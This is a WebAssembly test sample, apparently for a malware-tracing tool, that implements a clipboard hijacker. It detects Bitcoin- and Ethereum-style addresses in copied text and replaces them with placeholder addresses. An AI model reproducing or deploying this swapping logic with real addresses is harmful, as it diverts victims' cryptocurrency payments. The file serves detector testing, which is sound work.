;; RUN: spoor trace % --invoke main --json
;; WHAT: Clipboard swapper: looks for the shape of a wallet address in what is copied and puts another one in
;;   its place.
;; EXPECT: verdict=MALICIOUS|SUSPICIOUS rule=browser/ status=exited host=env.navigator.clipboard.writeText:1
(module
  (import "env" "navigator.clipboard.readText" (func $read_text (param i32 i32) (result i32)))
  (import "env" "navigator.clipboard.writeText" (func $write_text (param i32 i32)))
  (import "env" "document.addEventListener" (func $listen (param i32 i32 i32)))
  (import "env" "setInterval" (func $interval (param i32 i32) (result i32)))
  (memory (export "memory") 1)
  (global $swapped (export "swapped") (mut i32) (i32.const 0))
  ;; Base58 letters: no 0, O, I, l.
  (func $is_base58 (param $c i32) (result i32)
    (if (i32.lt_u (i32.sub (local.get $c) (i32.const 49)) (i32.const 9)) (then (return (i32.const 1))))
    (if (i32.lt_u (i32.sub (local.get $c) (i32.const 65)) (i32.const 26))
      (then (return (i32.and (i32.ne (local.get $c) (i32.const 73)) (i32.ne (local.get $c) (i32.const 79))))))
    (if (i32.lt_u (i32.sub (local.get $c) (i32.const 97)) (i32.const 26))
      (then (return (i32.ne (local.get $c) (i32.const 108)))))
    (i32.const 0))
  (func $is_hex (param $c i32) (result i32)
    (i32.or (i32.lt_u (i32.sub (local.get $c) (i32.const 48)) (i32.const 10))
      (i32.lt_u (i32.sub (i32.or (local.get $c) (i32.const 32)) (i32.const 97)) (i32.const 6))))
  ;; 0 nothing, 1 like Bitcoin, 2 like Ethereum.
  (func $kind (param $p i32) (param $n i32) (result i32) (local $i i32) (local $hex i32)
    (local.set $hex (i32.and (i32.eq (i32.load16_u (local.get $p)) (i32.const 0x7830)) (i32.eq (local.get $n) (i32.const 42))))
    (if (i32.eqz (local.get $hex))
      (then
        (if (i32.or (i32.lt_u (local.get $n) (i32.const 26)) (i32.gt_u (local.get $n) (i32.const 35))) (then (return (i32.const 0))))
        (if (i32.and (i32.ne (i32.load8_u (local.get $p)) (i32.const 49)) (i32.ne (i32.load8_u (local.get $p)) (i32.const 51)))
          (then (return (i32.const 0))))))
    (local.set $i (i32.shl (local.get $hex) (i32.const 1)))
    (loop $letter
      (if (i32.eqz
          (if (result i32) (local.get $hex)
            (then (call $is_hex (i32.load8_u (i32.add (local.get $p) (local.get $i)))))
            (else (call $is_base58 (i32.load8_u (i32.add (local.get $p) (local.get $i)))))))
        (then (return (i32.const 0))))
      (br_if $letter (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (local.get $n))))
    (i32.add (local.get $hex) (i32.const 1)))
  (func $check (param $p i32) (param $n i32)
    (block $hex (block $btc (block $none
      (br_table $none $btc $hex $none (call $kind (local.get $p) (local.get $n))))
      (return))
      (call $write_text (i32.const 64) (i32.const 34))
      (global.set $swapped (i32.add (global.get $swapped) (i32.const 1)))
      (return))
    (call $write_text (i32.const 128) (i32.const 42))
    (global.set $swapped (i32.add (global.get $swapped) (i32.const 1))))
  (func $tick
    (call $check (i32.const 1024) (call $read_text (i32.const 1024) (i32.const 256))))
  (func (export "main") (result i32)
    (call $listen (i32.const 256) (i32.const 4) (i32.const 0))
    (drop (call $interval (i32.const 0) (i32.const 500)))
    (call $tick)
    ;; Its own trial, with an address of nobody.
    (call $check (i32.const 320) (i32.const 34))
    (global.get $swapped))
  (table 1 funcref)
  (elem (i32.const 0) $tick)
  (data (i32.const 64) "1SwappedByTheSampLeNobodyownsthis1")
  (data (i32.const 128) "0x000000000000000000000000000000000000dEaD")
  (data (i32.const 256) "copy")
  (data (i32.const 320) "1Exampyenobodyhasthisaddressatayy9")
)
